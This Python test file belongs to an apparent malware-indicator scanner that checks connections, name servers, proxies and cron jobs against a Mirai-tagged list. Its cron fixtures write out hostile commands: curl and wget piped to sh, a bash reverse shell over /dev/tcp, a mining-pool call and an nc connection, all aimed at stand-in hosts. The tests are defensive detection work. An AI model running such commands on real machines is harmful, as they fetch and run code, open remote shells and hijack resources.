"""Running programs, their connections, and the settings around them."""

import os
import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from lamsach.indicators.index import Entry, MatchIndex
from lamsach.indicators.index_writer import build
from lamsach.indicators.values import Indicator
from lamsach.scan.persistence.linux.cron import Cron
from lamsach.scan.persistence.machine import Machine
from lamsach.scan.surroundings.contacts import Contact, Watched, open_contacts
from lamsach.scan.surroundings.programs import programs
from tests.scan.conftest import NOW


def watched(*values: str) -> Watched:
    return Watched(MatchIndex(build(Entry(Indicator.parse(each), "Mirai") for each in values)), NOW, signed=True)


def test_a_connection_to_a_listed_address_is_found_once_for_each_program() -> None:
    contacts = [
        Contact("sshd (1)", "192.0.2.7", 80),
        Contact("sshd (1)", "192.0.2.7", 81),
        Contact("x (2)", "198.51.100.1", 80),
    ]
    (finding,) = watched("192.0.2.0/24", "2001:db8::/32").contacts(contacts)
    assert (finding.kind, finding.family, finding.place) == ("connection", "Mirai", "sshd (1) > 192.0.2.7 80")


def test_connections_that_are_open_now_are_seen() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()[:2]):
        ports = {each.port for each in open_contacts() if each.address == "127.0.0.1"}
        assert server.getsockname()[1] in ports


def test_listed_name_servers_and_proxies_are_found(tmp_path: Path) -> None:
    etc = tmp_path / "etc"
    etc.mkdir()
    (etc / "resolv.conf").write_text(
        "search example.vn\nnameserver 192.0.2.53\nnameserver 198.51.100.53\nnameserver junk\n"
    )
    (etc / "environment").write_text("PATH=/bin\nexport HTTPS_PROXY='http://proxy.bad.example:8080'\nhttp_proxy=::::\n")
    found = list(watched("192.0.2.53", "bad.example").settings(Machine(tmp_path)))
    assert [(each.family, each.place) for each in found] == [
        ("name server", "/etc/resolv.conf: 192.0.2.53"),
        ("proxy", "/etc/environment: proxy.bad.example"),
    ]


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("* * * * * root curl -s http://x.bad.example/a.sh | sh", "x.bad.example"),
        ("* * * * * root wget -qO- bad.example/a|sh", "bad.example"),
        ("@reboot root bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "192.0.2.9"),
        ("@reboot root /opt/m -o stratum+tcp://pool.bad.example:3333", "pool.bad.example"),
        ("@reboot root nc [2001:db8::7] 80", "2001:db8::7"),
        ("* * * * * root curl http://good.example/a.sh", ""),
        ("* * * * * root /usr/bin/python3.11 /opt/run.py", ""),
    ],
)
def test_what_starts_by_itself_and_names_a_listed_address_is_found(tmp_path: Path, command: str, host: str) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "crontab").write_text(f"# tasks\n{command}\n")
    listed = watched("bad.example", "192.0.2.0/24", "2001:db8::/32")
    found = [(each.kind, each.place) for each in listed.starts(Cron().enumerate(Machine(tmp_path)))]
    assert found == ([("startup", f"cron: /etc/crontab:2: {host}")] if host else [])


@pytest.mark.parametrize("deleted", [False, True])
def test_the_file_of_a_running_program_is_open_to_the_scan_also_when_it_was_deleted(
    tmp_path: Path, deleted: bool
) -> None:
    program = tmp_path / "innocent"
    shutil.copy("/bin/sleep", program)
    content = program.read_bytes()
    with subprocess.Popen([program, "60"]) as process:
        try:
            if deleted:
                program.unlink()
            found = {}
            for each, handle in programs():
                with os.fdopen(handle, "rb") as file:
                    if each.found.path == bytes(program):
                        found[each.place] = file.read()
            assert found == {f"innocent ({process.pid})": content}
        finally:
            process.kill()


def test_what_a_program_has_loaded_is_seen_where_the_system_shows_it() -> None:
    paths = set()
    for each, handle in programs():
        os.close(handle)
        paths.add(each.found.path)
    assert any(b"python" in path for path in paths)
    if os.geteuid() == 0:
        assert any(b".so" in path for path in paths)
